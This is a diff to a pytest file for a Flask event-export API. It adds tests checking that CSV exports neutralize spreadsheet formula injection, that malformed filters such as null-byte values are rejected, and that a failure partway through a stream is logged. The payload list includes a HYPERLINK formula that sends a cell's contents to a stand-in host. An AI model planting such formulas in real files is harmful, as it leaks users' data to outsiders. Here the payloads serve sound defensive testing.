@@ -36,6 +36,35 @@ TRICKY_PAYLOADS = [
     "ünïcødé ✓",
     "x" * 300,
 ]
+# Cells a spreadsheet would run as a formula, and what CSV exports write for
+# them (NDJSON keeps them as they are). A tab or carriage return in front
+# cannot come through the API (whitespace is stripped), only from elsewhere.
+FORMULA_PAYLOADS = [
+    "=1+2",
+    "+1",
+    "-2",
+    "@SUM(A1:A9)",
+    '=HYPERLINK("http://x.test/?"&A1,"click")',
+    "\t=1+2",
+    "\r=1+2",
+    "'=already quoted",
+    " =not first",
+    "a=b",
+    "-",
+]
+NEUTRALIZED_PAYLOADS = [
+    "'=1+2",
+    "'+1",
+    "'-2",
+    "'@SUM(A1:A9)",
+    '\'=HYPERLINK("http://x.test/?"&A1,"click")',
+    "'\t=1+2",
+    "'\r=1+2",
+    "'=already quoted",
+    " =not first",
+    "a=b",
+    "'-",
+]
 # Events of another account, which no export of the tester's may contain.
 OTHER_ROWS = 321
 
@@ -150,6 +179,11 @@ def test_each_account_exports_only_its_own_events(seeded_app: Flask) -> None:
         ("owner_id=1", "owner_id"),
         ("kind=Bad Kind", "kind"),
         ("format=xml", "format"),
+        ("kind=a%00b", "kind"),
+        ("since=2026-01-01T00:00:00Z%00", "since"),
+        ("since=9999-12-31T23:59:59-23:59", "since"),
+        ("until=0001-01-01T00:00:00%2B14:00", "until"),
+        ("until=0999-12-31T23:59:59Z", "until"),
     ],
 )
 @pytest.mark.parametrize("extension", ["csv", "ndjson"])
@@ -249,7 +283,7 @@ def test_the_database_formats_rows_as_python_would(
     typed values, for awkward payloads, amounts and timestamps alike."""
     app = make_app()
     client = app.test_client()
-    for index, payload in enumerate(TRICKY_PAYLOADS):
+    for index, payload in enumerate(TRICKY_PAYLOADS + FORMULA_PAYLOADS[:4]):
         created = client.post(
             "/api/events",
             json={
@@ -274,7 +308,7 @@ def test_the_database_formats_rows_as_python_would(
             query = export.export_query(owner_id, filters)
             for rows in export._stream(connection, query):
                 fields = [export._csv_fields(row) for row in rows]
-                writer.writerows(fields)
+                writer.writerows(map(export._spreadsheet_safe, fields))
                 lines += [
                     json.dumps(
                         dict(zip(export.COLUMNS, row, strict=True)),
@@ -287,7 +321,7 @@ def test_the_database_formats_rows_as_python_would(
         db.session.remove()
     assert written_csv == buffer.getvalue()
     assert written_ndjson == "".join(lines)
-    assert len(lines) == len(TRICKY_PAYLOADS) + 200
+    assert len(lines) == len(TRICKY_PAYLOADS) + 4 + 200
 
 
 def test_timestamps_are_utc_with_microseconds(make_app: Callable[..., Flask]) -> None:
@@ -302,3 +336,94 @@ def test_timestamps_are_utc_with_microseconds(make_app: Callable[..., Flask]) ->
     )))  # fmt: skip
     assert row["occurred_at"] == "2026-05-06T07:08:09.000000+00:00"
     assert Decimal(row["amount"]) == Decimal("1.00")
+
+
+def test_csv_exports_neutralize_formulas_in_free_text(
+    make_app: Callable[..., Flask],
+) -> None:
+    """OWASP's CSV injection: a free-text cell starting with = + - @, a tab
+    or a carriage return gets a leading single quote in CSV files, from
+    COPY on PostgreSQL and from Python elsewhere, byte for byte the same.
+    Amounts stay numbers; NDJSON is untouched."""
+    app = make_app()
+    owner_id = account_id(app)
+    with app.app_context():
+        for n, payload in enumerate(FORMULA_PAYLOADS):
+            db.session.add(
+                Event(
+                    owner_id=owner_id,
+                    kind="-k" if n == 0 else "k",
+                    amount=Decimal("-5.00"),
+                    payload=payload,
+                    occurred_at=datetime(2026, 1, 1, tzinfo=UTC),
+                    created_at=datetime(2026, 1, 1, tzinfo=UTC) + timedelta(n),
+                )
+            )
+        db.session.commit()
+        db.session.remove()
+    client = app.test_client()
+    body = client.get("/api/events/export.csv").get_data(as_text=True)
+    rows = list(csv.DictReader(io.StringIO(body, newline="")))
+    assert [row["payload"] for row in rows] == NEUTRALIZED_PAYLOADS
+    assert [row["kind"] for row in rows] == ["'-k"] + ["k"] * (len(rows) - 1)
+    assert {row["amount"] for row in rows} == {"-5.00"}
+    # The same bytes whatever the database: three rows spelled out.
+    lines = body.split("\n")
+    stamp = "2026-01-01T00:00:00.000000+00:00"
+    assert lines[1].split(",", 2)[2] == f"'-k,-5.00,'=1+2,{stamp},{stamp}"
+    assert ',k,-5.00,"\'\r=1+2",' in body
+    hyperlink = '"\'=HYPERLINK(""http://x.test/?""&A1,""click"")"'
+    assert f",k,-5.00,{hyperlink}," in body
+    ndjson = client.get("/api/events/export.ndjson").get_data(as_text=True)
+    records = [json.loads(line) for line in ndjson.splitlines()]
+    assert [record["payload"] for record in records] == FORMULA_PAYLOADS
+    assert records[0]["kind"] == "-k"
+
+
+def failing_after_first_chunk(owner_id: int, filters: object) -> Iterator[bytes]:
+    yield b"id,owner_id\n"
+    raise RuntimeError("the database went away mid-export")
+
+
+@pytest.mark.parametrize("extension", ["csv", "ndjson"])
+def test_an_export_failing_mid_stream_ends_incomplete_and_is_logged(
+    make_app: Callable[..., Flask],
+    monkeypatch: pytest.MonkeyPatch,
+    caplog: pytest.LogCaptureFixture,
+    extension: str,
+) -> None:
+    """After the first byte no error response is possible: the server must
+    drop the connection without the terminating chunk, so the client knows
+    the file is incomplete, and the failure is logged with the request id."""
+    app = make_app()
+    monkeypatch.setattr(export, f"{extension}_chunks", failing_after_first_chunk)
+    token = issue_token(app)
+    server = make_server("127.0.0.1", 0, app, threaded=True)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    received = b""
+    try:
+        with socket.create_connection(("127.0.0.1", server.server_port)) as client:
+            # A keep-alive request: only an aborted connection ends the read.
+            client.settimeout(10)
+            client.sendall(
+                f"GET /api/events/export.{extension} HTTP/1.1\r\n"
+                f"Host: 127.0.0.1\r\nAuthorization: Bearer {token}\r\n"
+                "X-Request-ID: mid-stream-failure\r\n\r\n".encode()
+            )
+            while data := client.recv(65536):
+                received += data
+    finally:
+        server.shutdown()
+        thread.join(timeout=5)
+    head, _, body = received.partition(b"\r\n\r\n")
+    assert head.startswith(b"HTTP/1.1 200 OK")
+    assert b"transfer-encoding: chunked" in head.lower()
+    assert body.startswith(b"c\r\nid,owner_id\n\r\n")
+    assert not body.endswith(b"0\r\n\r\n"), "a truncated file looked complete"
+    failures = [r for r in caplog.records if r.name.endswith(".events.routes")]
+    assert len(failures) == 1
+    assert getattr(failures[0], "request_id", None) == "mid-stream-failure"
+    assert getattr(failures[0], "account_id", None) == str(account_id(app))
+    assert failures[0].exc_info is not None
+    assert "went away" in str(failures[0].exc_info[1])
